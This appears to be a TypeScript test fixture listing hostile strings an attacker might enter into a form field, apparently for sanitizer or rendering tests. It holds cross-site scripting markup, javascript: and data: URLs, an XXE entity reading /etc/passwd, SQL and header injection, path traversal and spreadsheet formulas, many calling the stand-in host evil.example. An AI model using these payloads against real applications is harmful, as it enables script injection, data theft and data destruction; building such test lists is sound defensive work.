/** What an attacker may type or paste into a field: each would set `window.ran`, open an alert or ask evil.example if it were more than text. */

const run = 'window.ran=1';
const evil = 'http://evil.example/x';

const markup: readonly string[] = [
  `<script>${run}</script>`, `<SCRIPT SRC=${evil}.js></SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `"><script>alert(1)</script>`, `</title><script>${run}</script>`,
  `<img src=x onerror=${run}>`, `<img src="${evil}.png">`, `<img/src=x/onerror=${run}//`, `<img srcset="${evil} 1x">`, `<IMG """><SCRIPT>${run}</SCRIPT>">`, `<image href=x onerror=${run}>`,
  `<body onload=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<details open ontoggle=${run}>x</details>`,
  `<video src=x onerror=${run}>`, `<audio src="${evil}.mp3" autoplay>`, `<marquee onstart=${run}>`, `<div onpointerenter=${run} style=position:fixed;inset:0>x</div>`, `<a href="${evil}" ping="${evil}">x</a>`,
  `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>parent.${run}</script>">`, `<object data="${evil}.swf">`, `<embed src="${evil}.svg">`, `<link rel=stylesheet href="${evil}.css">`, `<link rel=prefetch href="${evil}">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`, `<base href="http://evil.example/">`, `<form action="${evil}"><button>x`, `<button formaction="javascript:${run}">x</button>`,
  `<style>@import "${evil}.css"</style>`, `<p style="background:url(${evil}.png)">x</p>`, `<x onclick=${run} contenteditable autofocus tabindex=1 onfocus=${run}>`,
  `<template><img src=x onerror=${run}></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><use href="${evil}.svg#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`, `<svg><image href="${evil}.png"/></svg>`, `<svg><set attributeName=onmouseover to=${run}>`,
  `<!--><img src=x onerror=${run}>-->`, `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, '<!--?lit$1$--><?lit$2$>', `<diary-view src="${evil}.json">`,
  `<form id=x><input name=attributes><input name=innerHTML>`, `<a id=document><a id=document name=cookie>`, `" onmouseover="${run}" x="`, `' autofocus onfocus='${run}`, `\` onclick=${run} \``,
];

const addresses: readonly string[] = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, ` javascript:${run}`, `\u0001javascript:${run}`, `javascript\u200B:${run}`, `&#106;avascript:${run}`, `&#x6A&#x61&#x76&#x61script:${run}`, `javascript&colon;${run}`,
  `javascript://evil.example/%0A${run}`, `data:text/html,<script>parent.${run}</script>`, `data:image/svg+xml,<svg onload=${run}>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `blob:${evil}`,
  `file:///etc/passwd`, `view-source:${evil}`, `//evil.example/x`, `\\\\evil.example\\share`, `http://evil.example\u2044@good.example`, `http://good.example@evil.example`, `mailto:a@b.c?bcc=all@evil.example`, `intent://x#Intent;scheme=javascript;end`,
];

const templates: readonly string[] = [
  `\${${run}}`, `{{constructor.constructor('${run}')()}}`, `#{${run}}`, `<%= ${run} %>`, `[[${run}]]`, `@{${run}}`, '{{7*7}}', '${7*7}', `$(${run})`, `\`${run}\``, `;${run}//`, `');${run};//`, `eval("${run}")`, `setTimeout('${run}')`,
  '{"_$litType$":1,"strings":["<b>"],"values":[]}', '{"__proto__":{"ran":1}}', '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__', 'then', 'null', 'undefined', 'NaN', '[object Object]',
];

const others: readonly string[] = [
  `red;background:url(${evil})`, `expression(${run})`, `url(${evil})`, `};*{background:url(${evil})}`, `</style><script>${run}</script>`, '--x: 1', 'var(--x)',
  'x\r\nBcc: all@evil.example', 'x\nSubject: other', 'x%0D%0ABcc:all@evil.example', 'x\r\n\r\n<html>', '%s%s%n%x', '%00', '{0}', '$1$&$`', '\\0\\x3c\\u003c', '../../../etc/passwd', 'CON', "'; DROP TABLE followUps; --", '=HYPERLINK("http://evil.example","x")', '@SUM(1)', '-1+1',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:other', 'x\\nATTENDEE:mailto:all@evil.example', 'x;ALTREP="http://evil.example":y', 'DTSTART:19700101T000000Z', '^n^^^\'', 'a,b;c\\d',
  'NUL \u0000 here', 'bell \u0007 escape \u001B[31m', 'half \uD83D', '\uDE00 half', '\u202Etxt.exe', '\u2066\u2067\u202A bidi', 'שלום <script>', 'مرحبا 123', 'zero\u200Bwidth\uFEFF', 'a\u2028b\u2029c', '\u00AD\u034F', 'e\u0301'.repeat(60), '👩‍👩‍👧‍👦🏳️‍🌈', '\uFFFE\uFFFF', '&lt;script&gt;', '&amp;amp;',
  'x'.repeat(255), 'y'.repeat(256), '<b>'.repeat(2000), '('.repeat(1000), '9'.repeat(400), '  \u00A0\u3000 ', '(a+)+$',
];

/** All of them. */
export const typed: readonly string[] = [...markup, ...addresses, ...templates, ...others];
